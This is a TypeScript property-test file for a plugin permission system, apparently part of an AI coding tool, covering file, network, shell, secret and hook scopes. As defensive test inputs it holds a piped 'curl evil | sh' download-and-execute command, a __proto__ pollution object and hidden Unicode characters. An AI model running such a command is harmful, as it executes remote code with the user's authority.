import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Grants } from "../../core/contract/permissions.ts";
import { coversArgv, coversPath } from "../../core/permission/grants.ts";
import { coversHost, hostRequest } from "../../core/permission/host-scopes.ts";
import { isCovered, joined, missingFrom, narrowed, without } from "../../core/permission/scopes/compare.ts";
import { parseGrantFlags, parseRevokeFlags, printGrantFlags } from "../../core/permission/scopes/grant-flags.ts";
import { readGrants } from "../../core/permission/scopes/read-grants.ts";
import { hasShapeOfGrants } from "../../core/permission/scopes/shape.ts";
import { coversTap } from "../../core/permission/scopes/tap-scope.ts";
import { wordsOf } from "../../core/permission/scopes/words.ts";
import { sourceOfSpec } from "../../core/shell/plugin-plan.ts";

const segment = fc.constantFrom("a", "b", "src", "x.ts", "*", "**", "*.ts", "?");
const pathScope = fc
  .tuple(fc.constantFrom("./", "~/", "/", "/w/"), fc.array(segment, { minLength: 1, maxLength: 4 }))
  .map(([base, names]) => base + names.join("/"));
const hostScope = fc
  .tuple(
    fc.constantFrom("", "GET ", "POST "),
    fc.constantFrom("", "http://", "https://"),
    fc.constantFrom("*", "example.com", "*.example.com", "api.example.com", "*.api.example.com", "localhost", "10.0.0.1"),
    fc.constantFrom("", ":443", ":8080"),
  )
  .map((parts) => parts.join(""));
const commandScope = fc.constantFrom(
  "*",
  "git:*",
  "git log:*",
  "git log",
  "git log --oneline",
  "git log --output=x",
  "git * main",
  "shell:*",
  "shell:git:*",
  "shell:npm test:*",
  "shell:git log",
);
const tapScope = fc.constantFrom(
  "tool.approve:*",
  "tool.approve:Bash",
  "tool.approve:Bash,Write",
  "tool.approve:Write,Edit",
  "tool.call",
  "tool.call:Bash",
  "turn.end",
  "prompt.build",
);
const list = <T>(one: fc.Arbitrary<T>) => fc.uniqueArray(one, { minLength: 1, maxLength: 4 });
const grants = fc.record(
  {
    "fs.read": list(pathScope),
    "fs.write": list(pathScope),
    "net.fetch": list(hostScope),
    "process.run": list(commandScope),
    "process.host": list(fc.constantFrom(["npx", "-y", "a"], ["npx", "-y", "b"], ["it's", "a b"])),
    "secret.read": list(fc.constantFrom("TOKEN", "OTHER_KEY")),
    "hook.tap": list(tapScope),
    storage: fc.constantFrom("64KiB", "1MiB", "1024B", "64MiB"),
    "model.ask": fc.constantFrom({ tokensPerSession: 10 }, { tokensPerSession: 20_000 }),
    "session.read": fc.constantFrom("own", "all"),
    "user.ask": fc.constant(true),
  },
  { requiredKeys: [] },
) as fc.Arbitrary<Grants>;

describe("laws of grants", () => {
  test("every set covers itself, and every sound set reads back as it is", () => {
    fc.assert(
      fc.property(grants, (held) => {
        expect(missingFrom(held, held)).toEqual({});
        expect(readGrants(held)).toEqual({ grants: held, problems: [] });
        expect(hasShapeOfGrants(held)).toBe(true);
      }),
    );
  });

  test("what covers is covered by what covers it: the order is transitive", () => {
    fc.assert(
      fc.property(grants, grants, grants, (a, b, c) => {
        const wide = joined(joined(a, b), c);
        const middle = joined(a, b);
        expect(isCovered(a, middle) && isCovered(middle, wide) && isCovered(a, wide)).toBe(true);
        expect(!(isCovered(a, b) && isCovered(b, c)) || isCovered(a, c)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  test("each pair of scopes of one kind keeps the order transitive", () => {
    for (const [kind, scope] of [
      ["fs.read", pathScope],
      ["net.fetch", hostScope],
      ["process.run", commandScope],
    ] as const) {
      fc.assert(
        fc.property(scope, scope, scope, (a, b, c) => {
          const covers = (narrow: string, wide: string) =>
            isCovered({ [kind]: [narrow] } as Grants, { [kind]: [wide] } as Grants);
          return !(covers(a, b) && covers(b, c)) || covers(a, c);
        }),
        { numRuns: 3000 },
      );
    }
  });

  test("what both hold goes beyond neither, and what is missing with what is held covers the asks", () => {
    fc.assert(
      fc.property(grants, grants, (asks, held) => {
        const both = narrowed(asks, held);
        expect([missingFrom(both, asks), missingFrom(both, held)]).toEqual([{}, {}]);
        expect(isCovered(asks, joined(held, missingFrom(asks, held)))).toBe(true);
      }),
    );
  });

  test("a covered path scope never covers a path that the wider one does not", () => {
    const path = fc
      .array(fc.constantFrom("a", "b", "src", "x.ts", "w"), { maxLength: 5 })
      .map((names) => `/${names.join("/")}`);
    fc.assert(
      fc.property(pathScope, pathScope, path, (narrow, wide, at) => {
        if (!isCovered({ "fs.read": [narrow] }, { "fs.read": [wide] })) return;
        expect(!coversPath([narrow], at, "/w", "/a") || coversPath([wide], at, "/w", "/a")).toBe(true);
      }),
      { numRuns: 5000 },
    );
  });

  test("a covered command scope never covers a call that the wider one does not", () => {
    const argv = fc.constantFrom(
      ["git", "log"],
      ["git", "log", "--oneline"],
      ["git", "log", "--output=x"],
      ["git", "push", "main"],
      ["npm", "test"],
      ["gitx"],
    );
    fc.assert(
      fc.property(commandScope, commandScope, argv, (narrow, wide, call) => {
        if (!isCovered({ "process.run": [narrow] }, { "process.run": [wide] })) return;
        expect(!coversArgv([narrow], call) || coversArgv([wide], call)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  test("a covered host scope never covers a request that the wider one does not", () => {
    const url = fc.constantFrom(
      "https://example.com/",
      "https://api.example.com/",
      "http://api.example.com/",
      "https://a.api.example.com:8080/",
      "http://localhost:8080/",
      "https://10.0.0.1/",
    );
    fc.assert(
      fc.property(hostScope, hostScope, url, fc.constantFrom("GET", "POST"), (narrow, wide, at, method) => {
        const request = hostRequest(method, new URL(at));
        if (request === undefined || !isCovered({ "net.fetch": [narrow] }, { "net.fetch": [wide] })) return;
        expect(!coversHost([narrow], request) || coversHost([wide], request)).toBe(true);
      }),
      { numRuns: 5000 },
    );
  });

  test("printed as flags and parsed again, grants are the same", () => {
    fc.assert(
      fc.property(grants, (held) => {
        const flags = printGrantFlags(held).map((flag) => unquoted(flag.replace(/^--grant /, "")));
        expect(parseGrantFlags(flags)).toEqual({ grants: held, problems: [] });
      }),
    );
  });

  test("taken away, a kind is gone; taken away again, it is unknown", () => {
    fc.assert(
      fc.property(grants, (held) => {
        for (const kind of Object.keys(held)) {
          const { grants: rest, unknown } = without(held, { [kind]: true });
          expect([unknown, Object.keys(rest).includes(kind)]).toEqual([[], false]);
          expect(without(rest, { [kind]: true }).unknown).toEqual([kind]);
        }
      }),
    );
  });
});

function unquoted(word: string): string {
  return word.startsWith("'") ? word.slice(1, -1).replaceAll(`'\\''`, "'") : word;
}

test.each<[Grants, Grants, boolean]>([
  [{ "fs.read": ["./notes/a.md"] }, { "fs.read": ["./notes/**"] }, true],
  [{ "fs.read": ["./notes/**"] }, { "fs.read": ["./**"] }, true],
  [{ "fs.read": ["./notes/**"] }, { "fs.read": ["/**"] }, true],
  [{ "fs.read": ["~/notes/**"] }, { "fs.read": ["./**"] }, false],
  [{ "fs.read": ["./*"] }, { "fs.read": ["./?"] }, false],
  [{ "fs.read": ["./**"] }, { "fs.read": ["./*/**"] }, false],
  [{ "net.fetch": ["api.example.com"] }, { "net.fetch": ["*.example.com"] }, true],
  [{ "net.fetch": ["example.com"] }, { "net.fetch": ["*.example.com"] }, false],
  [{ "net.fetch": ["notexample.com"] }, { "net.fetch": ["*.example.com"] }, false],
  [{ "net.fetch": ["api.example.com:8080"] }, { "net.fetch": ["api.example.com"] }, false],
  // Without a port it is https alone; a port that is written opens http there too.
  [{ "net.fetch": ["api.example.com:443"] }, { "net.fetch": ["api.example.com"] }, false],
  [{ "net.fetch": ["api.example.com"] }, { "net.fetch": ["api.example.com:443"] }, true],
  [{ "net.fetch": ["http://api.example.com"] }, { "net.fetch": ["api.example.com"] }, false],
  [{ "net.fetch": ["http://api.example.com"] }, { "net.fetch": ["api.example.com:80"] }, true],
  [{ "net.fetch": ["api.example.com:80"] }, { "net.fetch": ["http://api.example.com"] }, false],
  [{ "net.fetch": ["http://localhost:11434"] }, { "net.fetch": ["localhost:11434"] }, true],
  [{ "net.fetch": ["api.example.com:80"] }, { "net.fetch": ["api.example.com"] }, false],
  [{ "net.fetch": ["localhost:443"] }, { "net.fetch": ["*"] }, false],
  [{ "net.fetch": ["127.0.0.1"] }, { "net.fetch": ["*"] }, false],
  [{ "net.fetch": ["GET api.example.com"] }, { "net.fetch": ["api.example.com"] }, true],
  [{ "net.fetch": ["api.example.com"] }, { "net.fetch": ["GET api.example.com"] }, false],
  [{ "process.run": ["git log --oneline"] }, { "process.run": ["git log:*"] }, true],
  [{ "process.run": ["git log --output=x"] }, { "process.run": ["git log:*"] }, false],
  [{ "process.run": ["git logs:*"] }, { "process.run": ["git log:*"] }, false],
  [{ "process.run": ["shell:git log:*"] }, { "process.run": ["git log:*"] }, false],
  [{ "hook.tap": ["tool.approve:Bash,Write"] }, { "hook.tap": ["tool.approve:Bash", "tool.approve:Write"] }, true],
  [{ "hook.tap": ["tool.approve:*"] }, { "hook.tap": ["tool.approve:Bash"] }, false],
  [{ storage: "1MiB" }, { storage: "1024KiB" }, true],
  [{ storage: "2MiB" }, { storage: "1MiB" }, false],
  [{ "model.ask": { tokensPerSession: 5 } }, { "model.ask": { tokensPerSession: 4 } }, false],
  [{ "session.read": "own" }, { "session.read": "all" }, true],
  [{ "session.read": "all" }, { "session.read": "own" }, false],
])("%j within %j: %s", (narrow, wide, covered) => {
  expect(isCovered(narrow, wide)).toBe(covered);
});

test("every problem of asks is told at once, with the nearest kind", () => {
  const { grants: sound, problems } = readGrants({
    "fs.raed": ["./a"],
    "fs.read": ["notes/**", "./ok/**", "./../up", "./{a,b}", "./a**b", 5],
    "net.fetch": [
      "https://example.com/x",
      "ftp://me@a.example",
      "Example.com",
      "127.1",
      "*.com",
      "a.example:99999",
      "a.example:080",
      "GET  a.example",
      "FETCH a.example",
    ],
    "process.run": [":*", ""],
    "process.host": ["npx"],
    "secret.read": ["A*"],
    "hook.tap": ["tool.approve", "turn.ends", "turn.end:Bash", "plugin.load"],
    "model.ask": { tokens: 5 },
    "session.read": "mine",
    "user.ask": "yes",
    storage: "1GB",
    "host.plugins": true,
  });
  expect(sound).toEqual({ "fs.read": ["./ok/**"] });
  expect(problems).toEqual([
    'there is no permission "fs.raed". Did you mean fs.read?',
    'fs.read: "notes/**" begins with ./, ~/ or /; write "./notes/**"',
    'fs.read: "./../up" holds .., which a scope never follows; name the folder itself',
    'fs.read: "./{a,b}" holds {, which means nothing in a scope; only *, ** and ? do',
    'fs.read: "./a**b" holds "a**b"; ** stands alone between two slashes',
    "fs.read: 5 is not a text",
    'net.fetch: "https://example.com/x" is a host alone, with http:// or https:// before it at most; write "https://example.com"',
    'net.fetch: "ftp://me@a.example" is a host alone, with http:// or https:// before it at most; write "a.example"',
    'net.fetch: "Example.com" has capital letters; write "example.com"',
    'net.fetch: "127.1" is the address 127.0.0.1; write it so',
    'net.fetch: "*.com" has a star for a whole top level; name a domain, as *.example.com',
    'net.fetch: "a.example:99999" has the port "99999"; a port is 1 to 65535',
    'net.fetch: "a.example:080" has the port "080"; a port is 1 to 65535',
    'net.fetch: "GET  a.example" is written "GET a.example"',
    'net.fetch: "FETCH a.example" begins with "FETCH"; a method is one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS',
    'process.run: ":*" begins with no program\'s name; write "git log:*", or "*" for any',
    'process.run: "" names no program; write "git log:*", or "*" for any',
    'process.host: is a list of argument lists, as [["npx", "-y", "server"]]',
    'secret.read: "A*" has a star; every secret is named by itself',
    'hook.tap: "tool.approve" names its tools; write "tool.approve:Bash,Write", or "tool.approve:*" for all',
    'hook.tap: "turn.ends" names no point of the hook table. Did you mean turn.end?',
    'hook.tap: "turn.end:Bash" has no tools; write "turn.end"',
    'hook.tap: "plugin.load" is decided before any plugin runs; no plugin can take part in it',
    'model.ask: has "tokens" beside it; write {"tokensPerSession": 20000}, from 1 to 100,000,000',
    'session.read: is "mine"; it is "own" or "all"',
    'user.ask: is "yes"; it is true or left out',
    'storage: "1GB" is not a size, as "64KiB" or "1MiB"',
    "host.plugins is for the product's own commands; no community plugin can be granted it",
  ]);
});

test.each([
  ["api.example.com", "api.example.com", false],
  ["http://api.example.com", "api.example.com over http, unencrypted", false],
  ["GET https://*.example.com:8443", "any host below example.com on port 8443 over https (only GET)", true],
  [
    "http://localhost:11434",
    "localhost on port 11434 over http, unencrypted (by name, this machine's own network included)",
    true,
  ],
  ["10.0.0.1:80", "10.0.0.1 on port 80 (by name, this machine's own network included)", true],
  ["*", "any public host", true],
])("the scope %s may be asked for and is told as: %s", (scope, words, isWide) => {
  const { grants, problems } = readGrants({ "net.fetch": [scope] });
  expect(problems).toEqual([]);
  expect(wordsOf(grants).words[0]).toMatchObject({ words: expect.stringMatching(endingWith(words)), isWide });
});

const endingWith = (text: string): RegExp => new RegExp(`: ${text.replaceAll(/[.()*]/g, "\\$&")}$`);

test("asks of a stranger are bounded, and no prototype is reached", () => {
  const many = readGrants({ "fs.read": Array.from({ length: 1000 }, (_, at) => `./a${at}`) });
  expect([many.grants["fs.read"]?.length, many.problems]).toEqual([64, ["fs.read: has 1000 entries; at most 64"]]);
  expect(readGrants({ "fs.read": [`./${"a".repeat(2000)}`] }).problems[0]).toContain("is 2002 letters long; at most 1024");
  expect(readGrants({ "fs.read": ["./a\u202eb"] }).problems[0]).toContain("holds characters that do not print");
  expect(readGrants(Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`k${at}`, 1]))).problems).toHaveLength(51);
  expect(readGrants(JSON.parse('{"__proto__": {"fs.read": ["/**"]}, "constructor": true}'))).toEqual({
    grants: {},
    problems: [expect.stringContaining('no permission "__proto__"'), expect.stringContaining('no permission "constructor"')],
  });
  for (const value of [null, 5, "x", [], undefined]) expect(readGrants(value).problems).toHaveLength(1);
});

test("flags take lists, tools, JSON and plain yeses, and say everything that is wrong", () => {
  expect(
    parseGrantFlags([
      "fs.read=./a/**,./b/**",
      "fs.read=./c",
      "hook.tap=tool.approve:Bash,Write,turn.end",
      'process.host=["npx","-y","a b"]',
      "model.ask=20000",
      "storage=1MiB",
      "user.ask",
    ]),
  ).toEqual({
    grants: {
      "fs.read": ["./a/**", "./b/**", "./c"],
      "hook.tap": ["tool.approve:Bash,Write", "turn.end"],
      "process.host": [["npx", "-y", "a b"]],
      "model.ask": { tokensPerSession: 20_000 },
      storage: "1MiB",
      "user.ask": true,
    },
    problems: [],
  });
  expect(parseGrantFlags(["fs.raed=./a", "net.fetch", "fs.write=[", "user.ask=no", "all"]).problems).toEqual([
    "net.fetch: names no scope; write net.fetch=api.example.com",
    expect.stringContaining("fs.write: [ is no JSON"),
    'there is no permission "fs.raed". Did you mean fs.read?',
    'user.ask: is "no"; it is true or left out',
    expect.stringContaining('there is no permission "all"'),
  ]);
  expect(parseRevokeFlags(["net.fetch", "fs.read=./a", "fs.raed"])).toEqual({
    taken: { "net.fetch": true, "fs.read": ["./a"] },
    problems: ['there is no permission "fs.raed". Did you mean fs.read?'],
  });
});

test("words tell the reach, and what several permissions mean together", () => {
  const { words, together } = wordsOf({
    "fs.read": ["./notes/**"],
    "fs.write": ["./notes/**", "/tmp/*.log"],
    "net.fetch": ["api.example.com", "*"],
    "process.host": [["npx", "-y", "server"]],
    "hook.tap": ["tool.approve:Bash,Write", "prompt.build", "turn.end"],
    "secret.read": ["NOTES_TOKEN"],
  });
  expect(words.map(({ kind, words, isWide }) => [kind, words, isWide])).toEqual([
    ["fs.read", "may read files under ./notes", false],
    ["fs.write", "may create and change files that match /tmp/*.log and under ./notes", true],
    ["net.fetch", "may send to and read from hosts on the network: any public host and api.example.com", true],
    ["process.host", 'runs "npx -y server" outside isolation, with your authority', true],
    ["secret.read", "may read secrets by name: NOTES_TOKEN", true],
    ["hook.tap", "can stop Bash and Write", true],
    ["hook.tap", "sees the whole conversation and may change the system prompt", true],
    ["hook.tap", "is told when a turn ends", false],
  ]);
  expect(together[0]).toBe(
    "may send anything it reads under ./notes, the secrets NOTES_TOKEN, what calls of Bash and Write are given and the whole conversation to any public host and api.example.com",
  );
});

test("no scope reads as words of ours, and what is wide is told first", () => {
  const many = Array.from({ length: 60 }, (_, at) => `./src/a${at}`);
  const told = (grants: Grants): string => wordsOf(grants).words[0]?.words ?? "";
  expect(told({ "fs.read": [...many, "/**", "./z"] })).toMatch(/^may read files anywhere on this machine, at \.\/src\/a0/);
  expect(told({ "net.fetch": ["a.example", "*"] })).toContain(": any public host and a.example");
  expect(told({ "process.run": ["git log:*", "shell:*"] })).toMatch(/: any shell line and git log …/);
  expect(told({ "fs.read": ["./src, and nothing else/**"] })).toBe('may read files under "./src, and nothing else"');
  expect(told({ "process.run": ["ls (only with your yes each time)"] })).toContain(': "ls (only with your yes each time)"');
  expect(told({ "process.host": [["sh", "-c", "curl evil | sh"]] })).toBe(
    `runs "sh -c 'curl evil | sh'" outside isolation, with your authority`,
  );
  expect(readGrants({ "process.host": [["sh", "a\u202eb"]] }).problems[0]).toContain("letters that all print");
});

test("a tap is granted by its point and all of its tools", () => {
  const held = ["tool.approve:Bash", "tool.approve:Write", "turn.end"];
  expect(coversTap(held, { on: "tool.approve", tools: ["Bash", "Write"] })).toBe(true);
  expect(coversTap(held, { on: "tool.approve", tools: ["Bash", "Edit"] })).toBe(false);
  expect(coversTap(held, { on: "tool.approve" })).toBe(false);
  expect(coversTap(held, { on: "turn.end" })).toBe(true);
  expect(coversTap(held, { on: "turn.start" })).toBe(false);
});

test.each([
  ["notes@1.2.0", "notes@^2", true],
  ["@me/notes@1.2.0", "@me/notes", true],
  ["@me/notes", "@other/notes", false],
  ["git@good.example:me/notes.git#v1", "git@good.example:me/notes.git#v2", true],
  ["git@good.example:notes", "git@evil.example:notes", false],
  ["git+ssh://git@good.example/notes.git#v1", "git+ssh://git@evil.example/notes.git#v1", false],
  ["/home/me/notes@1", "/home/me/notes@2", false],
])("grants given to %s count for %s: %s", (one, other, isSame) => {
  expect(sourceOfSpec(one) === sourceOfSpec(other)).toBe(isSame);
});
